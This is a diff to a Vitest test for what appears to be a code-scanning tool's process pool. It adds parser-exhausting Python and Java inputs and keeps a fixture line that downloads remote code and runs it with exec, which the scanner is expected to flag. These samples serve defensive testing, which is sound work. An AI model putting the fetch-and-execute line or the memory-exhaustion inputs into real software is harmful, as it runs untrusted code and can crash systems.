@@ -2,20 +2,24 @@ import path from "node:path";
 import { expect, test } from "vitest";
 import { processPool } from "./process-pool";
 
-/** Overflows the memory of the Python grammar, and with it that of all others. */
-const HOSTILE = `x = ${"(A<B>) ".repeat(4000)}\n`;
+/** Overflow the memory of their grammar, and with it that of all others. */
+const HOSTILE = { "a.py": `x = ${"(A<B>) ".repeat(4000)}\n`, "a.java": "a<".repeat(100_000) };
 const DOWNLOADS = "import requests\nexec(requests.get('https://notes-cdn.dev/p').text)\n";
 
-test("code that breaks its grammar is not followed, and the next package has another process", async () => {
-  const pool = processPool({
-    program: path.join(import.meta.dirname, "../src/test-support/findings-main.ts"),
-    execArgv: ["--import", "tsx", "--no-warnings"],
-    maxProcesses: 1,
-    timeoutMs: 60_000,
-    maxResidentBytes: 2 ** 40,
-    idleMs: 1000,
-  });
-  const broken = await pool.run({ "a.py": HOSTILE, "b.py": "print(1)\n" });
-  expect(broken).toEqual(["unanalysed-program a.py", "unanalysed-program b.py"]);
-  expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
-}, 120_000);
+test.each(Object.entries(HOSTILE))(
+  "%s that breaks its grammar is not followed, and the next package has another process",
+  async (name, code) => {
+    const pool = processPool({
+      program: path.join(import.meta.dirname, "../src/test-support/findings-main.ts"),
+      execArgv: ["--import", "tsx", "--no-warnings"],
+      maxProcesses: 1,
+      timeoutMs: 60_000,
+      maxResidentBytes: 2 ** 40,
+      idleMs: 1000,
+    });
+    const broken = await pool.run({ [name]: code, "b.py": "print(1)\n" });
+    expect(broken).toEqual([`unanalysed-program ${name}`, "unanalysed-program b.py"]);
+    expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
+  },
+  120_000,
+);
